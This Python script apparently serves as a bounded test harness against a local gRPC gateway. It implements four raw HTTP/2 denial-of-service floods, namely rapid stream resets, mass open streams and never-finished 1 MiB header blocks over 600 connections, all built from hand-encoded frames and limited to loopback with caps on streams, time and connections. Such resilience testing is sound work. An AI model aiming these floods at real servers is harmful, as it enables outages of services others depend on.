"""One of four floods of raw HTTP/2, from one process, on loopback only, bounded in number and time.

Usage: ``raw_flood.py FLOOD PORT SECONDS``. Prints one line when it begins and one with what it sent. Nothing here has a
token: it is what anybody who reaches the port can do.
"""

from __future__ import annotations

import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Final

#: No flood sends more than that, whatever its time.
MOST_STREAMS: Final = 200_000
MOST_SECONDS: Final = 20.0
MOST_CONNECTIONS: Final = 600

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING = 0, 1, 3, 4, 6
_END_HEADERS: Final = 4
_ACK: Final = 1
_CANCEL: Final = struct.pack(">I", 8)
_TICK_SECONDS: Final = 0.01


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame (RFC 9113 §4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def headers(path: bytes) -> bytes:
    """Return the block of a gRPC call's headers, without compression (RFC 7541 §6.2.2)."""
    post_over_http = b"\x83\x86"
    named_path = b"\x04" + bytes((len(path),)) + path
    return (
        post_over_http
        + named_path
        + b"\x01\x01x"
        + b"\x0f\x10\x10application/grpc"
        + b"\x00\x02te\x08trailers"
    )


BLOCK: Final = headers(b"/openshell.v1.OpenShell/UploadFile")


class Connection:
    """A connection whose answers are thrown away, but for the acknowledgements that HTTP/2 asks for."""

    def __init__(self, port: int) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
        self._sending = threading.Lock()
        self._next = 1
        self.gone = threading.Event()
        threading.Thread(target=self._listen, daemon=True).start()

    def stream(self) -> int:
        """Return the number of a new stream."""
        number, self._next = self._next, self._next + 2
        return number

    def send(self, data: bytes) -> None:
        """Send frames.

        Raises:
            OSError: the gateway closed the connection, or takes nothing.
        """
        with self._sending:
            self.socket.sendall(data)

    def _listen(self) -> None:
        pending = bytearray()
        with suppress(OSError):
            while data := self.socket.recv(1 << 16):
                pending += data
                while len(pending) >= 9:
                    size = int.from_bytes(pending[:3], "big")
                    if len(pending) < 9 + size:
                        break
                    kind, flags, payload = pending[3], pending[4], bytes(pending[9 : 9 + size])
                    del pending[: 9 + size]
                    if kind in (_SETTINGS, _PING) and not flags & _ACK:
                        self.send(frame(kind, _ACK, 0, payload if kind == _PING else b""))
        self.gone.set()


def _at_rate(port: int, seconds: float, per_second: int, frames: Callable[[int], bytes]) -> dict[str, int]:
    """Open so many streams a second; connect again when the gateway has had enough."""
    began = time.monotonic()
    sent, connections = 0, 0
    connection: Connection | None = None
    while (passed := time.monotonic() - began) < seconds and sent < MOST_STREAMS:
        try:
            if connection is None or connection.gone.is_set():
                connection = Connection(port)
                connections += 1
            due = min(int((passed + _TICK_SECONDS) * per_second) - sent, per_second // 10)
            if due > 0:
                connection.send(b"".join(frames(connection.stream()) for _ in range(due)))
                sent += due
        except OSError:
            connection = None
        time.sleep(_TICK_SECONDS)
    return {"streams": sent, "connections": connections}


def _open_and_reset(number: int) -> bytes:
    return frame(_HEADERS, _END_HEADERS, number, BLOCK) + frame(_RESET, 0, number, _CANCEL)


def _open(number: int) -> bytes:
    return frame(_HEADERS, _END_HEADERS, number, BLOCK)


def reset_5000(port: int, seconds: float) -> dict[str, int]:
    """Open and reset 5 000 streams a second on one connection."""
    return _at_rate(port, seconds, 5_000, _open_and_reset)


def reset_28000(port: int, seconds: float) -> dict[str, int]:
    """Open and reset 28 000 streams a second on one connection."""
    return _at_rate(port, seconds, 28_000, _open_and_reset)


def open_13000(port: int, seconds: float) -> dict[str, int]:
    """Open 13 000 streams a second on one connection, and leave them open."""
    return _at_rate(port, seconds, 13_000, _open)


def unfinished_headers(port: int, seconds: float) -> dict[str, int]:
    """On each of 600 connections, begin a header of 1 MiB and never end it."""
    began = time.monotonic()
    size = 1 << 20
    # A literal of that length (RFC 7541 §5.1), as one frame of headers and as many as it takes to continue.
    literal = b"\x00\x01a\x7f" + _integer(size - 127)
    sockets: list[socket.socket] = []
    sent = 0
    for _ in range(MOST_CONNECTIONS):
        if time.monotonic() - began > seconds:
            break
        try:
            one = socket.create_connection(("127.0.0.1", port), timeout=1)
            sockets.append(one)
            one.sendall(_PREFACE + frame(_SETTINGS, 0, 0) + frame(_HEADERS, 0, 1, BLOCK + literal))
            for _ in range(63):
                one.sendall(frame(9, 0, 1, bytes(1 << 14)))
                sent += 1 << 14
        except OSError:
            continue
    while time.monotonic() - began < seconds:
        time.sleep(_TICK_SECONDS)
    return {"connections": len(sockets), "bytes": sent}


def _integer(value: int) -> bytes:
    coded = bytearray()
    while value >= 128:
        coded.append(value % 128 + 128)
        value //= 128
    return bytes((*coded, value))


FLOODS: Final[dict[str, Callable[[int, float], dict[str, int]]]] = {
    "reset-5000": reset_5000,
    "reset-28000": reset_28000,
    "open-13000": open_13000,
    "unfinished-headers": unfinished_headers,
}


def main(arguments: list[str]) -> None:
    """Run one flood."""
    name, port, seconds = arguments
    print("begins", flush=True)
    print(FLOODS[name](int(port), min(float(seconds), MOST_SECONDS)), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
